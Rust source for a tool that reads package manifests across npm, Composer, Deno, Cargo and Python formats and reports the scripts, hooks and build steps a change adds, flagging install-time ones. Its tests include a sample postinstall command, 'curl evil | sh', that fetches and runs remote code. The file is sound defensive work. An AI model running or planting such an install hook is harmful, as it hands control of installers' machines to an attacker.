//! Manifests of packages, read for what they make run: scripts, hooks, build steps.
//!
//! A manifest changes often and for harmless reasons, so its name alone says little. What it makes
//! run when somebody installs, builds or tests is said by name.

use std::collections::BTreeMap;

use bstr::{BStr, ByteSlice};
use serde_json::Value;

use crate::text;

/// What a manifest makes run: what it is, in words, and the value that decides about it.
type Runs = BTreeMap<String, String>;

/// A larger manifest is not read.
const LARGEST: usize = 1 << 20;
/// Characters of a command that are shown.
const SHOWN: usize = 60;

/// How a manifest is written, and what in it runs.
struct Form {
    /// The name of the file, in lower case.
    name: &'static str,
    read: fn(&str) -> Option<Value>,
    /// Where the things are that run: a path of keys, of which `*` is any, and what each one is.
    places: &'static [(&'static [&'static str], What)],
}

/// What stands at a place.
#[derive(Clone, Copy)]
enum What {
    /// A table of scripts by name.
    Scripts(&'static str),
    /// One setting, whatever it holds.
    Setting(&'static str),
}

use What::{Scripts, Setting};

const HOOKS: &str = "the git hook";
const BACKEND: &str = "the build backend";

/// The sources are the manuals of the programs that read the files: docs.npmjs.com, getcomposer.org,
/// docs.deno.com, doc.rust-lang.org/cargo, packaging.python.org, and those of the tools named.
const FORMS: &[Form] = &[
    Form {
        name: "package.json",
        read: json,
        places: &[
            (&["scripts"], Scripts("the script")),
            (&["husky", "hooks"], Scripts(HOOKS)),
            (&["gitHooks"], Scripts(HOOKS)),
            (&["simple-git-hooks"], Scripts(HOOKS)),
            (&["pre-commit"], Setting("the git hook pre-commit")),
            (&["pre-push"], Setting("the git hook pre-push")),
            (&["lint-staged"], Scripts("the command for staged files")),
            (&["bin"], Setting("the programs that are installed")),
            (&["gypfile"], Setting("the native build")),
            (&["binary"], Setting("the binary that is fetched")),
            (&["babel"], Setting("the settings of babel, which name programs")),
            (&["eslintConfig"], Setting("the settings of eslint, which name programs")),
            (&["jest"], Setting("the settings of jest, which name programs")),
            (&["wireit"], Scripts("the script")),
            (&["pnpm", "onlyBuiltDependencies"], Setting("the packages whose scripts run")),
            (&["trustedDependencies"], Setting("the packages whose scripts run")),
        ],
    },
    Form {
        name: "composer.json",
        read: json,
        places: &[
            (&["scripts"], Scripts("the script")),
            (&["config", "allow-plugins"], Setting("the plugins that run")),
            (&["autoload", "files"], Setting("the files that run when classes are loaded")),
            (&["autoload-dev", "files"], Setting("the files that run when classes are loaded")),
            (&["extra", "hooks"], Scripts(HOOKS)),
        ],
    },
    Form { name: "deno.json", read: jsonc, places: &[(&["tasks"], Scripts("the task"))] },
    Form { name: "deno.jsonc", read: jsonc, places: &[(&["tasks"], Scripts("the task"))] },
    Form {
        name: "cargo.toml",
        read: toml,
        places: &[
            (&["package", "build"], Setting("the build script")),
            (&["package", "links"], Setting("the native library that is linked")),
            (&["lib", "proc-macro"], Setting("the procedural macro, which runs in the compiler")),
            (&["lib", "proc_macro"], Setting("the procedural macro, which runs in the compiler")),
            (&["lib", "crate-type"], Setting("the kind of the library, which may run in the compiler")),
            (&["lib", "crate_type"], Setting("the kind of the library, which may run in the compiler")),
            (&["build-dependencies"], Scripts("the dependency of the build script")),
            (&["target", "*", "build-dependencies"], Scripts("the dependency of the build script")),
            (&["workspace", "metadata"], Setting("the settings of cargo's tools")),
            (&["package", "metadata"], Setting("the settings of cargo's tools")),
        ],
    },
    Form {
        name: "pyproject.toml",
        read: toml,
        places: &[
            (&["build-system", "build-backend"], Setting(BACKEND)),
            (&["build-system", "backend-path"], Setting(BACKEND)),
            (&["build-system", "requires"], Setting("the packages that the build runs")),
            (&["project", "scripts"], Scripts("the program that is installed,")),
            (&["project", "gui-scripts"], Scripts("the program that is installed,")),
            (&["project", "entry-points"], Setting("the plugins that are installed")),
            (&["tool", "poetry", "scripts"], Scripts("the program that is installed,")),
            (&["tool", "poetry", "build"], Setting("the build script")),
            (&["tool", "poe", "tasks"], Scripts("the task")),
            (&["tool", "pdm", "scripts"], Scripts("the script")),
            (&["tool", "pdm", "build"], Setting("the build")),
            (&["tool", "rye", "scripts"], Scripts("the script")),
            (&["tool", "taskipy", "tasks"], Scripts("the task")),
            (&["tool", "pixi", "tasks"], Scripts("the task")),
            (&["tool", "hatch", "build", "hooks"], Setting("the hooks of the build")),
            (&["tool", "hatch", "build", "targets", "*", "hooks"], Setting("the hooks of the build")),
            (&["tool", "hatch", "metadata", "hooks"], Setting("the hooks of the build")),
            (&["tool", "hatch", "envs", "*", "scripts"], Scripts("the script")),
            (&["tool", "setuptools", "cmdclass"], Setting("the commands of the build")),
            (&["tool", "pytest", "ini_options"], Setting("the settings of pytest, which name programs")),
            (&["tool", "tox"], Setting("the settings of tox, which name programs")),
            (&["tool", "cibuildwheel"], Setting("the settings of cibuildwheel, which name programs")),
        ],
    },
    Form {
        name: "pipfile",
        read: toml,
        places: &[(&["scripts"], Scripts("the script")), (&["source"], Setting("where packages are fetched from"))],
    },
    Form {
        name: "setup.cfg",
        read: ini,
        places: &[
            (&["options", "setup_requires"], Setting("the packages that the build runs")),
            (&["options", "cmdclass"], Setting("the commands of the build")),
            (&["options.entry_points"], Scripts("the program that is installed,")),
            (&["tool:pytest"], Scripts("the setting of pytest")),
            (&["global"], Scripts("the setting of the build")),
        ],
    },
];

/// The scripts that package managers run by themselves when a package is installed.
const ON_INSTALL: [&str; 11] = [
    "preinstall",
    "install",
    "postinstall",
    "preprepare",
    "prepare",
    "postprepare",
    "prepublish",
    "dependencies",
    "pre-install-cmd",
    "post-install-cmd",
    "post-autoload-dump",
];

/// What a change of the manifest at `path` adds or changes that runs, each in words. Empty if the
/// file is no manifest, or nothing of it runs that did not before.
pub(super) fn changes(path: &BStr, old: Option<&[u8]>, new: Option<&[u8]>) -> Vec<String> {
    let name = path.rsplit_once_str("/").map_or(path.as_bytes(), |(_, name)| name).to_str_lossy().to_lowercase();
    let (Some(form), Some(new)) = (FORMS.iter().find(|form| form.name == name), new) else { return Vec::new() };
    let before = old.and_then(|old| form.runs(old)).unwrap_or_default();
    let Some(after) = form.runs(new) else { return vec!["something that cannot be read".to_owned()] };
    let is_new = |(what, value): &(String, String)| before.get(what) != Some(value);
    after.into_iter().filter(is_new).map(|(what, value)| format!("{what}: {}", command(&value))).collect()
}

/// A command in one row.
fn command(value: &str) -> String {
    let shown = text::name(value.as_bytes());
    match shown.char_indices().nth(SHOWN) {
        Some((end, _)) => format!("{}…", &shown[..end]),
        None => shown,
    }
}

impl Form {
    /// Everything that the manifest makes run. `None` if it cannot be read.
    fn runs(&self, content: &[u8]) -> Option<Runs> {
        let content = content.strip_prefix("\u{feff}".as_bytes()).unwrap_or(content);
        let content = str::from_utf8(content).ok().filter(|content| content.len() <= LARGEST)?;
        let manifest = (self.read)(content)?;
        let mut runs = Runs::new();
        for (place, what) in self.places {
            find(&manifest, place, &mut |found| what.note(found, &mut runs));
        }
        Some(runs)
    }
}

/// Calls `note` with what stands at `place`.
fn find(value: &Value, place: &[&str], note: &mut dyn FnMut(&Value)) {
    let Some((first, rest)) = place.split_first() else { return note(value) };
    let Value::Object(table) = value else { return };
    match *first {
        "*" => table.values().for_each(|value| find(value, rest, note)),
        key => table.get(key).into_iter().for_each(|value| find(value, rest, note)),
    }
}

impl What {
    fn note(self, found: &Value, runs: &mut Runs) {
        match (self, found) {
            (Scripts(what), Value::Object(scripts)) => {
                for (name, command) in scripts {
                    let when = if ON_INSTALL.contains(&name.as_str()) { ", which runs on install" } else { "" };
                    runs.insert(format!("{what} {}{when}", text::name(name.as_bytes())), words(command));
                }
            }
            (Scripts(what) | Setting(what), found) => {
                runs.insert(what.to_owned(), words(found));
            }
        }
    }
}

fn words(value: &Value) -> String {
    value.as_str().map_or_else(|| value.to_string(), str::to_owned)
}

fn json(content: &str) -> Option<Value> {
    serde_json::from_str(content).ok()
}

fn toml(content: &str) -> Option<Value> {
    let table: ::toml::Table = ::toml::from_str(content).ok()?;
    serde_json::to_value(table).ok()
}

/// JSON with comments and commas at ends, as deno and editors read it.
fn jsonc(content: &str) -> Option<Value> {
    let mut plain = String::with_capacity(content.len());
    let mut chars = content.chars().peekable();
    while let Some(char) = chars.next() {
        match (char, chars.peek()) {
            ('"', _) => {
                plain.push(char);
                let mut escaped = false;
                for char in chars.by_ref() {
                    plain.push(char);
                    if char == '"' && !escaped {
                        break;
                    }
                    escaped = char == '\\' && !escaped;
                }
            }
            ('/', Some('/')) => chars.by_ref().take_while(|char| *char != '\n').for_each(drop),
            ('/', Some('*')) => {
                chars.next();
                let mut last = ' ';
                for char in chars.by_ref() {
                    if last == '*' && char == '/' {
                        break;
                    }
                    last = char;
                }
            }
            ('}' | ']', _) => {
                let end = plain.trim_end().len();
                if plain[..end].ends_with(',') {
                    plain.truncate(end - 1);
                }
                plain.push(char);
            }
            _ => plain.push(char),
        }
    }
    json(&plain)
}

/// A file of sections, as Python's configparser reads it: values go on in lines that are indented.
fn ini(content: &str) -> Option<Value> {
    let mut sections = serde_json::Map::new();
    let (mut section, mut key) = (String::new(), None::<String>);
    for line in content.lines().filter(|line| !line.trim_start().starts_with(['#', ';'])) {
        if let (true, Some(key)) = (line.starts_with([' ', '\t']), &key) {
            if let Some(Value::String(value)) = sections[&section].get_mut(key) {
                value.push(' ');
                value.push_str(line.trim());
            }
        } else if let Some(name) = line.strip_prefix('[') {
            section = name.split_once(']')?.0.to_owned();
            sections.entry(section.clone()).or_insert_with(|| Value::Object(serde_json::Map::new()));
            key = None;
        } else if let Some((name, value)) = line.split_once(['=', ':']) {
            let name = name.trim().to_lowercase();
            sections.get_mut(&section)?.as_object_mut()?.insert(name.clone(), value.trim().into());
            key = Some(name);
        } else if !line.trim().is_empty() {
            return None;
        }
    }
    Some(Value::Object(sections))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn said(path: &str, old: Option<&str>, new: &str) -> Vec<String> {
        changes(path.into(), old.map(str::as_bytes), Some(new.as_bytes()))
    }

    #[test]
    fn a_script_that_is_added_or_changed_is_said_with_its_command() {
        let old = r#"{"scripts": {"test": "jest", "build": "tsc"}}"#;
        let new =
            r#"{"scripts": {"test": "jest", "build": "tsc && x", "postinstall": "curl evil | sh"}, "version": "2"}"#;
        assert_eq!(
            said("web/package.json", Some(old), new),
            ["the script build: tsc && x", "the script postinstall, which runs on install: curl evil | sh"]
        );
        assert_eq!(said("package.json", Some(new), old), ["the script build: tsc"], "what is gone does not run");
        assert_eq!(said("package.json", Some(old), old), [""; 0]);
        assert_eq!(said("other.json", None, new), [""; 0]);
    }

    #[test]
    fn what_runs_is_found_in_every_form() {
        for (path, content, expected) in [
            ("Cargo.toml", "[package]\nbuild = \"x.rs\"\n", "the build script: x.rs"),
            ("a/Cargo.toml", "[lib]\nproc-macro = true\n", "the procedural macro, which runs in the compiler: true"),
            (
                "Cargo.toml",
                "[lib]\ncrate-type = [\"proc-macro\"]\n",
                "the kind of the library, which may run in the compiler: [\"proc-macro\"]",
            ),
            ("Cargo.toml", "[build-dependencies]\ncc = \"1\"\n", "the dependency of the build script cc: 1"),
            (
                "Cargo.toml",
                "[target.'cfg(unix)'.build-dependencies]\ncc = \"1\"\n",
                "the dependency of the build script cc: 1",
            ),
            ("pyproject.toml", "[build-system]\nbuild-backend = \"b\"\n", "the build backend: b"),
            ("pyproject.toml", "[tool.hatch.envs.default.scripts]\na = \"rm\"\n", "the script a: rm"),
            (
                "setup.cfg",
                "[options]\nsetup_requires =\n  evil\n  more\n",
                "the packages that the build runs:  evil more",
            ),
            (
                "composer.json",
                r#"{"scripts": {"post-install-cmd": ["x"]}}"#,
                "the script post-install-cmd, which runs on install: [\"x\"]",
            ),
            ("deno.jsonc", "{ // a comment\n\"tasks\": {\"a\": \"//x\", /* , */ },}", "the task a: //x"),
            ("Pipfile", "[scripts]\na = \"x\"\n", "the script a: x"),
            (
                "PACKAGE.JSON",
                "\u{feff}{\"scripts\": {\"prepare\": \"husky\"}}",
                "the script prepare, which runs on install: husky",
            ),
        ] {
            assert_eq!(said(path, None, content), [expected], "{path}: {content}");
        }
    }

    #[test]
    fn what_cannot_be_read_is_said_too() {
        for (path, content) in [("package.json", "{"), ("Cargo.toml", "= x"), ("setup.cfg", "x\n")] {
            assert_eq!(said(path, None, content), ["something that cannot be read"], "{path}");
        }
        let large = format!("{{\"a\": \"{}\"}}", "x".repeat(LARGEST));
        assert_eq!(said("package.json", None, &large), ["something that cannot be read"]);
        assert_eq!(changes("package.json".into(), Some(b"{"), None), [""; 0]);
    }

    #[test]
    fn attack_15_a_long_or_strange_command_stays_one_short_row() {
        let said = said("package.json", None, &format!("{{\"scripts\": {{\"a\\nb\": \"{}\"}}}}", "x\\n".repeat(100)));
        assert!(said[0].starts_with("the script a\\nb: x\\nx"), "{said:?}");
        assert!(said[0].chars().count() < 100 && said[0].ends_with('…'), "{said:?}");
    }
}
